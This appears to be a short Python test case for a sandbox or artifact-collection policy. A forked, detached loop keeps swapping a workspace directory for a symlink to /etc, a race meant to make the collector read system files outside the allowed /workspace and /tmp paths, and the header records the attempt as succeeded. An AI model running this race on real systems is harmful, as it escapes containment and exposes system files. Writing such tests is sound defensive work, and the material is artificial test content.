# tries: swap a file for a link while it is read
# outcome: succeeded
# policy: {"artifacts": {"paths": ["/workspace/**", "/tmp/**"], "max_files": 50, "max_bytes": "1Mi"}}
# kept: /workspace/hostile.py
from hostile import *

os.mkdir("/workspace/d")
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            os.rename("/workspace/d", "/tmp/d")
            os.symlink("/etc", "/workspace/d")
            os.unlink("/workspace/d")
            os.rename("/tmp/d", "/workspace/d")
        except OSError:
            pass
contained()
